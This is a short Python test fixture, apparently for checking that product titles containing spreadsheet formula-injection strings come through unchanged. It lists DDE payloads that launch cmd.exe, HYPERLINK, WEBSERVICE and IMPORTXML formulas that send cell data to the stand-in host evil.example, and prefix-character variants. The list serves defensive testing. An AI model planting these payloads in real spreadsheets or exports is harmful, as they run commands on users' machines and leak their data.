"""Texts that a spreadsheet would run. As titles of products they must come through unchanged."""

_COMMANDS = [
    "cmd|'/C calc'!A0", "cmd|' /C notepad'!'A1'", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")", "IMPORTXML(\"http://evil.example\",\"//a\")",
    "WEBSERVICE(\"http://evil.example/\"&B2)", "IMAGE(\"http://evil.example/x.png\")", "1+1", "SUM(A1:A9)",
    "rundll32|'URL.dll,OpenURL calc.exe'!A", "INDIRECT(\"A1\")",
]  # fmt: skip
_STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\ufeff="]
FORMULAS = [start + command for start in _STARTS for command in _COMMANDS] + [
    "=1+1\";=cmd|'/C calc'!A0", "'=1+1", "=-1+1|x", "%0A=1+1", "=HYPERLINK(\"javascript:alert(1)\")", "@SUM(1+9)*cmd|'x'!A0",
]  # fmt: skip
# A blank before a formula is cut from a title, what follows it is not.
BLANK_BEFORE = ["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\t+cmd|'/C calc'!A0", "\u00a0=1+1"]
